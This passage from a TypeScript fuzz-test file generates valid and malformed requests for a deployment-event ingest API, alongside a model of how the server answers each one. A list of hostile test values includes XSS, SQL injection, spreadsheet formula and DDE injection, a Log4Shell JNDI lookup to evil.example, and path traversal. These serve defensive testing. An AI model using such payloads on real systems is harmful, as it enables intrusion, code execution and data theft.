// Generators of ingest requests for the property-based tests (test/api/fuzz.test.ts), valid and
// malformed, and a model of SPEC §1 that says how the server must answer each one. The model
// decodes the request bytes itself, without the server's parsers, so the two can disagree.
import fc from 'fast-check'

export type Form = 'put-get' | 'put-post' | 'deploy'
const FORMS: readonly Form[] = ['put-get', 'put-post', 'deploy']

export type Method = 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE'

/** One HTTP request as the tests send it: through inject, or byte for byte over a socket. */
export interface FuzzRequest {
  /** What the generator meant to exercise; failure messages name it. */
  kind: string
  form: Form
  method: Method
  path: '/put' | '/deploy'
  /** The query string exactly as sent, without the "?"; '' for none. */
  query: string
  /** Names are distinct ignoring case, because inject cannot send a header twice. */
  headers: Record<string, string>
  /** null: no body at all, not even Content-Length: 0. */
  body: Buffer | null
  /**
   * Whether the credentials identify a live key. The generator knows which key it put where, which
   * is simpler and more honest than working it out again from the headers.
   */
  credential: 'live' | 'bad'
}

// ---------------------------------------------------------------------------------------------
// The model: SPEC §1.1 and the error table of §1.2.
//
// Where the SPEC leaves a choice open, the model follows what the service chose and the README
// documents: characters are code points; "white space" is what String.prototype.trim removes (the
// generators only pad with ASCII white space, which every reading trims); an empty body means no
// fields (422, not 400); a repeated parameter is a bad field; a lone surrogate is bad text; a POST
// /put without body fields is read from its query string; and the first problem in the order of
// expectedAnswer wins.
// ---------------------------------------------------------------------------------------------

const BODY_LIMIT = 16 * 1024

/**
 * Lengths in characters (code points). SPEC §1.1 fixes service, environment, version and
 * description; url, commit and deployer are the service's own limits (src/domain/events/event.ts).
 */
const LIMITS = {
  service: 100,
  environment: 100,
  version: 200,
  url: 2048,
  commit: 200,
  description: 500,
  deployer: 200,
} as const

export const IDEMPOTENCY_KEY_MAX = 200
const STATUSES = ['Deploying', 'Deployed', 'Failed'] as const

type Slot = keyof typeof LIMITS | 'status'
const REQUIRED_SLOTS = ['service', 'environment', 'version', 'status'] as const
const OPTIONAL_SLOTS = ['url', 'commit', 'description', 'deployer'] as const

/** The name a form uses for a field: the legacy forms say app and env. */
function fieldName(slot: Slot, form: Form): string {
  if (form === 'deploy') return slot
  if (slot === 'service') return 'app'
  if (slot === 'environment') return 'env'
  return slot
}

const ALLOWED_METHODS: Record<FuzzRequest['path'], readonly Method[]> = {
  '/put': ['GET', 'POST'],
  '/deploy': ['POST'],
}

function allowedMethods(path: FuzzRequest['path']): readonly Method[] {
  return ALLOWED_METHODS[path]
}

/** An event as the SPEC says it must be stored and answered. */
export interface StoredEvent {
  service: string
  environment: string
  version: string
  status: string
  url: string | null
  commit: string | null
  description: string | null
  deployer: string | null
  source: Form
}

export interface Expected {
  /** Every status the SPEC allows for this request; the first is the model's own reading. */
  statuses: number[]
  /** For a 422: the fields the answer must list, in any order. */
  badFields: string[]
  /** For a 201: the event as it must be stored. */
  event: StoredEvent | null
  /** For a 405: the methods the Allow header must name. */
  allow?: readonly Method[]
  /** Why, in words, for failure messages. */
  reason: string
}

function refused(status: number, reason: string, also: number[] = []): Expected {
  return { statuses: [status, ...also], badFields: [], event: null, reason }
}

export function headerValue(req: FuzzRequest, name: string): string | undefined {
  for (const [key, value] of Object.entries(req.headers)) if (key.toLowerCase() === name) return value
  return undefined
}

const TOKEN = /^[!#$%&'*+.^_`|~0-9A-Za-z-]+$/

/**
 * The media type of a Content-Type value, lower-cased, or null when the value is not
 * `type/subtype` optionally followed by parameters (RFC 9110 §8.3.1).
 */
function mediaTypeOf(value: string): string | null {
  const essence = value.split(';', 1)[0] ?? ''
  const parts = essence.trim().split('/')
  const [type, subtype] = parts
  if (parts.length !== 2 || type === undefined || subtype === undefined) return null
  if (!TOKEN.test(type) || !TOKEN.test(subtype)) return null
  return `${type}/${subtype}`.toLowerCase()
}

type Decoded = { ok: true; fields: Map<string, unknown> } | { ok: false; why: string }

const strictUtf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true })

function hexDigit(byte: number): number {
  if (byte >= 0x30 && byte <= 0x39) return byte - 0x30
  if (byte >= 0x41 && byte <= 0x46) return byte - 0x41 + 10
  if (byte >= 0x61 && byte <= 0x66) return byte - 0x61 + 10
  return -1
}

/** `+` is a space, `%XX` a byte; the bytes must be UTF-8. Null when that fails. */
function percentDecode(text: string): string | null {
  // Byte by byte: an escape can stand for part of a character, so decoding works on bytes.
  const input = Buffer.from(text.replaceAll('+', ' '), 'utf8')
  const bytes = Buffer.alloc(input.length)
  let length = 0
  for (let i = 0; i < input.length; i++) {
    const byte = input[i] ?? 0
    if (byte !== 0x25) {
      bytes[length++] = byte
      continue
    }
    const high = hexDigit(input[i + 1] ?? -1)
    const low = hexDigit(input[i + 2] ?? -1)
    if (high < 0 || low < 0) return null
    bytes[length++] = high * 16 + low
    i += 2
  }
  try {
    return strictUtf8.decode(bytes.subarray(0, length))
  } catch {
    return null
  }
}

/** `a=1&b=2`, as a query string or a form body. A name given twice holds a list of its values. */
function decodeForm(text: string): Decoded {
  const fields = new Map<string, unknown>()
  for (const pair of text.split('&')) {
    if (pair === '') continue
    const eq = pair.indexOf('=')
    const name = percentDecode(eq === -1 ? pair : pair.slice(0, eq))
    const value = eq === -1 ? '' : percentDecode(pair.slice(eq + 1))
    if (name === null || value === null)
      return { ok: false, why: `broken %-escape in "${pair.slice(0, 60)}"` }
    const previous = fields.get(name)
    if (previous === undefined) fields.set(name, value)
    else fields.set(name, [...(Array.isArray(previous) ? previous : [previous]), value])
  }
  return { ok: true, fields }
}

/**
 * A POST body: UTF-8 or refused; white space alone means no fields; JSON whatever the label says
 * (curl -d labels JSON form-encoded), except that a form-encoded body that does not start like
 * JSON is read as form fields (SPEC §1.1).
 */
function decodeBody(body: Buffer, media: string | null | undefined): Decoded {
  let text: string
  try {
    text = strictUtf8.decode(body)
  } catch {
    return { ok: false, why: 'body is not UTF-8' }
  }
  const trimmed = text.trim()
  if (trimmed === '') return { ok: true, fields: new Map() }
  if (media === 'application/x-www-form-urlencoded' && !/^[[{]/.test(trimmed)) return decodeForm(trimmed)
  let value: unknown
  try {
    value = JSON.parse(trimmed)
  } catch {
    return { ok: false, why: 'body is not JSON' }
  }
  if (typeof value !== 'object' || value === null || Array.isArray(value)) {
    return { ok: false, why: 'body is not a JSON object' }
  }
  return { ok: true, fields: new Map(Object.entries(value)) }
}

/**
 * The model's own reading of the text rule (docs/API.md): C0 controls and DEL (SPEC §1.1), and the
 * tightened default of issue 25 — C1 controls and bidirectional embeddings, overrides and isolates.
 */
function hasControlCharacter(value: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: the control characters are what this matches
  return /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(value)
}

function isWebUrl(value: string): boolean {
  try {
    const url = new URL(value)
    return url.protocol === 'http:' || url.protocol === 'https:'
  } catch {
    return false
  }
}

type Checked = { ok: true; value: string | null } | { ok: false }

/** SPEC §1.1: a string, trimmed, not empty when required, no control characters, within limit. */
function checkText(raw: unknown, limit: number, required: boolean): Checked {
  if (raw === undefined || raw === null) return required ? { ok: false } : { ok: true, value: null }
  // A list (a repeated query parameter, a JSON array) is not a string either.
  if (typeof raw !== 'string') return { ok: false }
  const value = raw.trim()
  if (value === '') return required ? { ok: false } : { ok: true, value: null }
  if (hasControlCharacter(value)) return { ok: false }
  // A lone surrogate (from a JSON \ud800 escape) is not text any database can store.
  if (!value.isWellFormed()) return { ok: false }
  if ([...value].length > limit) return { ok: false }
  return { ok: true, value }
}

function checkFields(fields: Map<string, unknown>, form: Form): { bad: string[]; event: StoredEvent | null } {
  const bad: string[] = []
  const stored: Partial<Record<Slot, string | null>> = {}
  for (const slot of [...REQUIRED_SLOTS, ...OPTIONAL_SLOTS]) {
    const name = fieldName(slot, form)
    const raw = fields.get(name)
    const limit = slot === 'status' ? Number.POSITIVE_INFINITY : LIMITS[slot]
    const checked = checkText(raw, limit, (REQUIRED_SLOTS as readonly Slot[]).includes(slot))
    let value = checked.ok ? checked.value : null
    let ok = checked.ok
    if (ok && slot === 'status' && value !== null) {
      const lower = value.toLowerCase()
      value = STATUSES.find((s) => s.toLowerCase() === lower) ?? null
      ok = value !== null
    }
    if (ok && slot === 'url' && value !== null) ok = isWebUrl(value)
    if (ok) stored[slot] = value
    else bad.push(name)
  }
  if (bad.length > 0) return { bad, event: null }
  const text = (slot: Slot) => stored[slot] ?? null
  return {
    bad,
    event: {
      service: text('service') ?? '',
      environment: text('environment') ?? '',
      version: text('version') ?? '',
      status: text('status') ?? '',
      url: text('url'),
      commit: text('commit'),
      description: text('description'),
      deployer: text('deployer'),
      source: form,
    },
  }
}

/**
 * How the server must answer. Precedence, first problem wins: a wrong method (405, before any key
 * is looked at), no live key (401: an unauthenticated caller learns nothing about its body), a
 * body over 16 KiB (413: it is not read), a body or query that cannot be decoded (400), and then
 * every bad field and a bad Idempotency-Key together (422).
 */
export function expectedAnswer(req: FuzzRequest): Expected {
  if (!allowedMethods(req.path).includes(req.method)) {
    return { ...refused(405, `${req.method} is not allowed on ${req.path}`), allow: allowedMethods(req.path) }
  }
  if (req.credential === 'bad') return refused(401, 'no live API key presented')

  // SPEC §1.1 only promises JSON and form-encoded bodies on POST /deploy, so 415 is also a fair
  // answer there to any other (or a missing or malformed) Content-Type. POST /put must take them all.
  const also: number[] = []
  let fields: Map<string, unknown>
  if (req.method === 'GET') {
    const query = decodeForm(req.query)
    if (!query.ok) return refused(400, `query string: ${query.why}`)
    fields = query.fields
  } else {
    const contentType = headerValue(req, 'content-type')
    const media = contentType === undefined ? undefined : mediaTypeOf(contentType)
    if (
      req.form === 'deploy' &&
      media !== 'application/json' &&
      media !== 'application/x-www-form-urlencoded'
    ) {
      also.push(415)
    }
    const body = req.body ?? Buffer.alloc(0)
    if (body.length > BODY_LIMIT) return refused(413, `body of ${body.length} bytes`, also)
    const decoded = decodeBody(body, media)
    if (!decoded.ok) return refused(400, decoded.why, also)
    fields = decoded.fields
    // A POST /put without fields in its body is read like GET /put (curl -X POST with a query).
    if (req.form === 'put-post' && fields.size === 0) {
      const query = decodeForm(req.query)
      if (!query.ok) return refused(400, `query string: ${query.why}`, also)
      fields = query.fields
    }
  }

  const { bad, event } = checkFields(fields, req.form)
  const idempotencyKey = headerValue(req, 'idempotency-key')
  if (idempotencyKey !== undefined) {
    const key = idempotencyKey.trim()
    if (key === '' || key.length > IDEMPOTENCY_KEY_MAX) bad.push('Idempotency-Key')
  }
  if (bad.length > 0) {
    return { statuses: [422, ...also], badFields: bad, event: null, reason: `bad: ${bad.join(', ')}` }
  }
  return { statuses: [201, ...also], badFields: [], event, reason: 'a valid event' }
}

// ---------------------------------------------------------------------------------------------
// Putting requests on the wire.
// ---------------------------------------------------------------------------------------------

/** Field name and value pairs, in the order sent; a value of undefined is left out. */
type Entries = Array<[string, unknown]>

/** UTF-8, except that a lone surrogate becomes its three-byte form, which no decoder accepts. */
function utf8Bytes(text: string): number[] {
  const out: number[] = []
  for (let i = 0; i < text.length; i++) {
    let cp = text.charCodeAt(i)
    const next = text.charCodeAt(i + 1)
    if (cp >= 0xd800 && cp <= 0xdbff && next >= 0xdc00 && next <= 0xdfff) {
      cp = 0x10000 + ((cp - 0xd800) << 10) + (next - 0xdc00)
      i++
    }
    if (cp < 0x80) out.push(cp)
    else if (cp < 0x800) out.push(0xc0 | (cp >> 6), 0x80 | (cp & 63))
    else if (cp < 0x10000) out.push(0xe0 | (cp >> 12), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63))
    else out.push(0xf0 | (cp >> 18), 0x80 | ((cp >> 12) & 63), 0x80 | ((cp >> 6) & 63), 0x80 | (cp & 63))
  }
  return out
}

/** How a client percent-encodes: curl, browsers and hand-written scripts all differ a little. */
interface Escaping {
  plusForSpace: boolean
  escapeEverything: boolean
  lowerHex: boolean
}

/** What each byte becomes, for each way of escaping; built once, because it is used a lot. */
const ESCAPE_TABLES = new Map<string, string[]>()

function escapeTable(escaping: Escaping): string[] {
  const key = `${escaping.plusForSpace}${escaping.escapeEverything}${escaping.lowerHex}`
  let table = ESCAPE_TABLES.get(key)
  if (!table) {
    table = Array.from({ length: 256 }, (_, byte) => {
      const ch = String.fromCharCode(byte)
      if (!escaping.escapeEverything && /[A-Za-z0-9\-._~]/.test(ch)) return ch
      if (byte === 0x20 && escaping.plusForSpace) return '+'
      const hex = byte.toString(16).padStart(2, '0')
      return `%${escaping.lowerHex ? hex : hex.toUpperCase()}`
    })
    ESCAPE_TABLES.set(key, table)
  }
  return table
}

function encodeComponent(text: string, escaping: Escaping): string {
  const table = escapeTable(escaping)
  const bytes = text.isWellFormed() ? Buffer.from(text, 'utf8') : utf8Bytes(text)
  let out = ''
  for (const byte of bytes) out += table[byte]
  return out
}

/** `name=value` pairs; a list repeats the name, null sends the bare name, other values as JSON text. */
function formPairs(entries: Entries, escaping: Escaping): string[] {
  const pairs: string[] = []
  for (const [name, value] of entries) {
    if (value === undefined) continue
    const encodedName = encodeComponent(name, escaping)
    if (value === null) pairs.push(encodedName)
    else if (Array.isArray(value) && value.every((v) => typeof v === 'string')) {
      for (const v of value) pairs.push(`${encodedName}=${encodeComponent(v, escaping)}`)
    } else {
      const text = typeof value === 'string' ? value : JSON.stringify(value)
      pairs.push(`${encodedName}=${encodeComponent(text, escaping)}`)
    }
  }
  return pairs
}

/** A JSON object written pair by pair, so that a key such as "__proto__" is sent as it is. */
function jsonText(entries: Entries, indent: boolean): string {
  const parts = entries
    .filter(([, value]) => value !== undefined)
    .map(([name, value]) => `${JSON.stringify(name)}:${indent ? ' ' : ''}${JSON.stringify(value)}`)
  return indent ? `{\n  ${parts.join(',\n  ')}\n}` : `{${parts.join(',')}}`
}

/** Drops the headers of one name, whatever their letter case. */
function withoutHeader(headers: Record<string, string>, ...names: string[]): Record<string, string> {
  return Object.fromEntries(Object.entries(headers).filter(([key]) => !names.includes(key.toLowerCase())))
}

type Transport =
  | { kind: 'query' }
  | { kind: 'json'; contentType: string | undefined; indent: boolean }
  | { kind: 'form'; contentType: string }

interface Draft {
  kind: string
  form: Form
  entries: Entries
  transport: Transport
  escaping: Escaping
  headers: Record<string, string>
  credential: FuzzRequest['credential']
}

function buildRequest(draft: Draft): FuzzRequest {
  const { form, transport } = draft
  const headers = { ...draft.headers }
  const base = { kind: draft.kind, form, headers, credential: draft.credential }
  if (form === 'put-get' || transport.kind === 'query') {
    const query = formPairs(draft.entries, draft.escaping).join('&')
    return { ...base, method: form === 'put-get' ? 'GET' : 'POST', path: '/put', query, body: null }
  }
  const path = form === 'deploy' ? '/deploy' : '/put'
  if (transport.kind === 'form') {
    headers['content-type'] = transport.contentType
    const body = Buffer.from(formPairs(draft.entries, draft.escaping).join('&'), 'latin1')
    return { ...base, method: 'POST', path, query: '', body }
  }
  if (transport.contentType !== undefined) headers['content-type'] = transport.contentType
  const body = Buffer.from(jsonText(draft.entries, transport.indent), 'utf8')
  return { ...base, method: 'POST', path, query: '', body }
}

// ---------------------------------------------------------------------------------------------
// Values.
// ---------------------------------------------------------------------------------------------

/**
 * Single code points that have tripped up parsers, encoders, databases or terminals: no-break,
 * zero-width and ideographic spaces, joiners, a left-to-right mark, line and paragraph separators,
 * the BOM, noncharacters
 * (still valid text), the last code point, astral emoji, a combining mark (which may end up first),
 * letters whose case mapping is odd, and the punctuation that URLs, forms, JSON, SQL and shells treat
 * specially.
 */
const TRICKY_CHARACTERS = [
  ...'\u00a0\u00ad\u200b\u200d\u200e\u2028\u2029\u2060\u3000\ufeff\ufffd\ufffe\uffff',
  ...'\u{10ffff}\u{1f680}\u{1f469}\u0301\u0130\u00df\ufb01\u4e2d\u05d0\u0627',
  ...'%+&=#?"\'\\<>`;|{}$/:@,*~!^[]()',
]

const textCharacter: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 1 }) },
  { weight: 3, arbitrary: fc.constantFrom(...TRICKY_CHARACTERS) },
  { weight: 3, arbitrary: fc.string({ unit: 'grapheme-composite', minLength: 1, maxLength: 1 }) },
  {
    weight: 2,
    arbitrary: fc
      .integer({ min: 0x80, max: 0x10ffff })
      .filter((cp) => cp < 0xd800 || cp > 0xdfff)
      .map((cp) => String.fromCodePoint(cp))
      .filter((c) => !hasControlCharacter(c)),
  },
)

/** Whole values that are valid but hostile: markup, formulas, SQL, template and path tricks. */
const HOSTILE_VALUES = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1",
  '1; DROP TABLE events; --',
  '=HYPERLINK("http://evil.example";"x")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,1)',
  '-2+3',
  '@SUM(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text is the hostile value
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  'C:\\Windows\\System32',
  'null',
  'undefined',
  'NaN',
  'true',
  '-0',
  '1e999',
  '[]',
  '{}',
  '__proto__',
  'constructor',
  '%00',
  '%s%n',
  'a&b=c',
  'a+b',
  'a%2Bb',
  'master:4d0r98wa',
  'feature/a&b=c',
  'v1.0.0+build.5',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'e\u0301',
  'مرحبا',
  'שלום עולם',
  '\u202eevil',
  'Déploiement ✓ 部署 🚀',
  'x\u2028y',
  'tab\u00a0nbsp',
  'line\u0085next',
]

/** Text that is stored unchanged: non-empty, no edge white space, no control characters. */
function storedText(limit: number): fc.Arbitrary<string> {
  return fc
    .oneof(
      {
        weight: 6,
        arbitrary: fc.string({ unit: textCharacter, minLength: 1, maxLength: Math.min(limit, 30) }),
      },
      {
        weight: 2,
        arbitrary: fc.string({ unit: textCharacter, minLength: 1, maxLength: limit, size: 'max' }),
      },
      { weight: 1, arbitrary: fc.string({ unit: textCharacter, minLength: limit, maxLength: limit }) },
      { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_VALUES.filter((v) => [...v].length <= limit)) },
    )
    .filter((v) => v !== '' && v.trim() === v && !hasControlCharacter(v))
}

/** ASCII white space only: what every reading of "white space is trimmed" agrees on. */
const padding = fc.constantFrom('', '', '', '', ' ', '  ', '\t', '\n', '\r\n', ' \t ')

interface Sent {
  /** What the client sends. */
  sent: string
  /** What must be stored. */
  stored: string
}

function padded(core: fc.Arbitrary<string>): fc.Arbitrary<Sent> {
  return fc
    .tuple(padding, core, padding)
    .map(([before, stored, after]) => ({ sent: before + stored + after, stored }))
}

const statusValue: fc.Arbitrary<Sent> = fc
  .constantFrom(...STATUSES)
  .chain((stored) =>
    fc
      .tuple(padding, fc.mixedCase(fc.constant(stored)), padding)
      .map(([a, s, b]) => ({ sent: a + s + b, stored })),
  )

const webUrl: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 4, arbitrary: fc.webUrl({ withQueryParameters: true, withFragments: true }) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'https://ci.example.com/runs/7?x=1&y=<b>',
        'http://[::1]:8080/build',
        'https://例え.jp/パス?q=ü',
        'HTTP://EXAMPLE.COM/X',
        'https://user:pa%20ss@example.com:8443/a/b;c?d#e',
        `https://example.com/${'a'.repeat(2000)}`,
      ),
    },
  )
  .filter((u) => [...u].length <= LIMITS.url && u.trim() === u && !hasControlCharacter(u) && isWebUrl(u))

const commitValue = fc.oneof(fc.stringMatching(/^[0-9a-f]{7,40}$/), storedText(60))

/** A valid event: what each field sends, and what must be stored. */
export interface ValidEvent {
  service: Sent
  environment: Sent
  version: Sent
  status: Sent
  url: Sent | undefined
  commit: Sent | undefined
  description: Sent | undefined
  deployer: Sent | undefined
}

const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: undefined, freq: 2 })

const validEvent: fc.Arbitrary<ValidEvent> = fc.record({
  service: padded(storedText(LIMITS.service)),
  environment: padded(storedText(LIMITS.environment)),
  version: padded(storedText(LIMITS.version)),
  status: statusValue,
  url: optional(padded(webUrl)),
  commit: optional(padded(commitValue)),
  description: optional(padded(storedText(LIMITS.description))),
  deployer: optional(padded(storedText(40))),
})

const SLOTS: readonly Slot[] = [...REQUIRED_SLOTS, ...OPTIONAL_SLOTS]

function eventEntries(event: ValidEvent, form: Form): Entries {
  return SLOTS.flatMap((slot): Entries => {
    const value = event[slot]
    return value === undefined ? [] : [[fieldName(slot, form), value.sent]]
  })
}

export function storedEvent(event: ValidEvent, form: Form): StoredEvent {
  return {
    service: event.service.stored,
    environment: event.environment.stored,
    version: event.version.stored,
    status: event.status.stored,
    url: event.url?.stored ?? null,
    commit: event.commit?.stored ?? null,
    description: event.description?.stored ?? null,
    deployer: event.deployer?.stored ?? null,
    source: form,
  }
}

/** Fields the service does not know, some of them named like columns or object internals. */
const EXTRA_NAMES = [
  'team',
  'id',
  'received_at',
  'source',
  'api_key_name',
  'account_id',
  'api_key_id',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '',
  ' ',
  'null',
  '0',
  'App',
  'Service',
  'STATUS ',
  'version[]',
]

/** An array nested `depth` deep, built without recursion. */
function nested(depth: number): unknown {
  let value: unknown = 'deep'
  for (let i = 0; i < depth; i++) value = [value]
  return value
}

const extras: fc.Arbitrary<Entries> = fc.oneof(
  {
    weight: 8,
    arbitrary: fc.array(
      fc.tuple(
        fc.oneof(fc.constantFrom(...EXTRA_NAMES), fc.string({ maxLength: 10 })),
        fc.jsonValue({ maxDepth: 2 }),
      ),
      { maxLength: 3 },
    ),
  },
  // Many fields, or one nested thousands deep: neither may cost more than it is worth.
  {
    weight: 1,
    arbitrary: fc
      .integer({ min: 100, max: 600 })
      .map((n) => Array.from({ length: n }, (_, i): [string, unknown] => [`x${i}`, i])),
  },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 500, max: 3000 }).map((depth): Entries => [['nested', nested(depth)]]),
  },
)

/** Adds extras whose names the form does not know and that are not already present. */
function withExtras(entries: Entries, more: Entries, form: Form): Entries {
  const known = new Set([...SLOTS.map((slot) => fieldName(slot, form)), ...entries.map(([name]) => name)])
  const out = [...entries]
  for (const [name, value] of more) {
    if (known.has(name)) continue
    known.add(name)
    out.push([name, value])
  }
  return out
}

function rotate<T>(items: T[], by: number): T[] {
  if (items.length === 0) return items
  const at = by % items.length
  return [...items.slice(at), ...items.slice(0, at)]
}

const escaping: fc.Arbitrary<Escaping> = fc.record({
  plusForSpace: fc.boolean(),
  escapeEverything: fc.boolean(),
  lowerHex: fc.boolean(),
})

// ---------------------------------------------------------------------------------------------
// Content types.
// ---------------------------------------------------------------------------------------------

const TOKEN_TEXT = fc.stringMatching(/^[!#$%&'*+.^_`|~0-9A-Za-z-]{1,12}$/)

/** Any well-formed `type/subtype` with optional parameters. */
const randomMediaType: fc.Arbitrary<string> = fc
  .tuple(TOKEN_TEXT, TOKEN_TEXT, fc.option(fc.tuple(TOKEN_TEXT, TOKEN_TEXT), { nil: undefined }))
  .map(([type, subtype, param]) => `${type}/${subtype}${param ? `; ${param[0]}=${param[1]}` : ''}`)

const FORM_CONTENT_TYPES = [
  'application/x-www-form-urlencoded',
  'application/x-www-form-urlencoded; charset=UTF-8',
  'Application/X-WWW-Form-URLEncoded',
]

/** SPEC §1.1: POST /put takes a JSON body under any content type, or none. */
const putContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  fc.constantFrom(
    undefined,
    'application/json',
    'application/json; charset=utf-8',
    'application/json;charset=UTF-8',
    'APPLICATION/JSON',
    'text/plain',
    'text/plain; charset=utf-8',
    ...FORM_CONTENT_TYPES,
    'application/octet-stream',
    'multipart/form-data; boundary=----x',
    'text/html',
    'application/xml',
    'application/vnd.shiplog+json',
    '*/*',
    'application/json; charset="utf-8"',
    'text/plain; charset=utf-16',
  ),
  randomMediaType,
)

/** SPEC §1.1: POST /deploy takes at least JSON and JSON labelled form-encoded; others may get 415. */
const deployContentType: fc.Arbitrary<string | undefined> = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'Application/JSON'),
  },
  { weight: 2, arbitrary: fc.constantFrom(...FORM_CONTENT_TYPES) },
  { weight: 1, arbitrary: fc.constantFrom(undefined, 'text/plain', 'application/octet-stream') },
  { weight: 1, arbitrary: randomMediaType },
)

/** Content-Type values that are not `type/subtype` at all. */
const MALFORMED_CONTENT_TYPES = [
  '',
  ' ',
  'json',
  'application',
  'application/',
  '/json',
  'application/json/extra',
  'application/json, text/plain',
  'application json',
  '\u00e9/x',
  ';charset=utf-8',
  'text/(plain)',
]

function transportFor(form: Form): fc.Arbitrary<Transport> {
  const json = (contentType: fc.Arbitrary<string | undefined>) =>
    fc.record({ kind: fc.constant('json' as const), contentType, indent: fc.boolean() })
  if (form === 'put-get') return fc.constant({ kind: 'query' as const })
  if (form === 'deploy') {
    return fc.oneof(
      { weight: 6, arbitrary: json(deployContentType) },
      // Odd labels are fair game on /deploy: the model allows 415 for them.
      { weight: 1, arbitrary: json(fc.constantFrom(...MALFORMED_CONTENT_TYPES)) },
    )
  }
  return fc.oneof(
    { weight: 6, arbitrary: json(putContentType) },
    {
      weight: 2,
      arbitrary: fc.record({
        kind: fc.constant('form' as const),
        contentType: fc.constantFrom(...FORM_CONTENT_TYPES),
      }),
    },
    { weight: 1, arbitrary: fc.constant({ kind: 'query' as const }) },
  )
}

// ---------------------------------------------------------------------------------------------
// Credentials.
// ---------------------------------------------------------------------------------------------

export interface Keys {
  live: string
  revoked: string
}

const BASE62 = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'

/** Printable Latin-1: what a header value can carry over HTTP, invalid UTF-8 included. */
const latin1Character = fc
  .oneof(fc.integer({ min: 0x21, max: 0x7e }), fc.integer({ min: 0xa0, max: 0xff }))
  .map((c) => String.fromCharCode(c))

function credentialArbitraries(keys: Keys) {
  const { live, revoked } = keys
  const named = (name: string, value: fc.Arbitrary<string>) =>
    fc.tuple(fc.mixedCase(fc.constant(name)), value).map(([n, v]): Record<string, string> => ({ [n]: v }))

  const bearer = named(
    'authorization',
    fc
      .tuple(fc.mixedCase(fc.constant('Bearer')), fc.integer({ min: 1, max: 3 }))
      .map(([scheme, spaces]) => `${scheme}${' '.repeat(spaces)}${live}`),
  )
  const liveCredential = fc.oneof(
    named('x-api-key', fc.constant(live)),
    bearer,
    fc.tuple(named('x-api-key', fc.constant(live)), bearer).map(([a, b]) => ({ ...a, ...b })),
  )

  const unknownKey = fc
    .stringMatching(/^[0-9A-Za-z]{40}$/)
    .map((s) => `shl_${s}`)
    .filter((k) => k !== live)
  const nearMiss = fc
    .oneof(
      fc.tuple(fc.nat(), fc.constantFrom(...BASE62)).map(([i, c]) => {
        const at = 4 + (i % (live.length - 4))
        return live.slice(0, at) + c + live.slice(at + 1)
      }),
      fc.constantFrom(
        live.slice(0, -1),
        `${live}0`,
        live.toUpperCase(),
        live.toLowerCase(),
        `SHL_${live.slice(4)}`,
        live.slice(4),
        `"${live}"`,
        `${live} ${live}`,
        `${live},${live}`,
        `Bearer ${live}`,
        `${live};`,
      ),
    )
    .filter((k) => k !== live)
  const junk = fc.oneof(
    fc.string({ unit: latin1Character, minLength: 1, maxLength: 60 }),
    fc.integer({ min: 100, max: 8000 }).map((n) => `shl_${'a'.repeat(n)}`),
  )
  const badKey = fc.oneof(fc.constantFrom('', ' ', '   ', revoked), unknownKey, nearMiss, junk)
  const badAuthorization = fc.oneof(
    fc.constantFrom(
      'Bearer',
      'Bearer ',
      `Basic ${Buffer.from(`${live}:`).toString('base64')}`,
      live,
      `Token ${live}`,
      `Bearer ${revoked}`,
      `Bearer ${live} extra`,
      `Bearer=${live}`,
      `Bearer:${live}`,
      `Bearer,${live}`,
      `Digest ${live}`,
      `ApiKey ${live}`,
      `${live} Bearer`,
    ),
    badKey.map((k) => `Bearer ${k}`),
  )
  /** The live key, but somewhere the SPEC does not read it from. */
  const wrongPlace = fc.oneof(
    fc
      .constantFrom(
        'x-api_key',
        'x_api_key',
        'api-key',
        'apikey',
        'x-apikey',
        'x-api-keys',
        'x-key',
        'key',
        'token',
        'x-auth-token',
        'x-api-token',
      )
      .chain((name) => named(name, fc.constant(live))),
    named('proxy-authorization', fc.constant(`Bearer ${live}`)),
    named('cookie', fc.constant(`api_key=${live}; x-api-key=${live}`)),
  )
  const badCredential: fc.Arbitrary<Record<string, string>> = fc.oneof(
    fc.constant({}),
    named('x-api-key', badKey),
    named('authorization', badAuthorization),
    fc
      .tuple(named('x-api-key', badKey), named('authorization', badAuthorization))
      .map(([a, b]) => ({ ...a, ...b })),
    wrongPlace,
  )
  return { liveCredential, badCredential, badKey }
}

// ---------------------------------------------------------------------------------------------
// Malformed requests, by kind.
// ---------------------------------------------------------------------------------------------

type Defect =
  | { slot: Slot; kind: 'missing' }
  | { slot: Slot; kind: 'value'; value: unknown }
  | { slot: Slot; kind: 'renamed'; name: string }
  | { slot: Slot; kind: 'repeated'; second: string }

function insertAt(text: string, at: number, insert: string): string {
  const i = at % (text.length + 1)
  return text.slice(0, i) + insert + text.slice(i)
}

/** What the text rule refuses: C0, DEL, C1, and the bidi embeddings, overrides and isolates. */
const controlCharacter = fc
  .oneof(
    fc.integer({ min: 0, max: 0x1f }),
    fc.integer({ min: 0x7f, max: 0x9f }),
    fc.integer({ min: 0x202a, max: 0x202e }),
    fc.integer({ min: 0x2066, max: 0x2069 }),
  )
  .map((c) => String.fromCharCode(c))
const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c))

const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
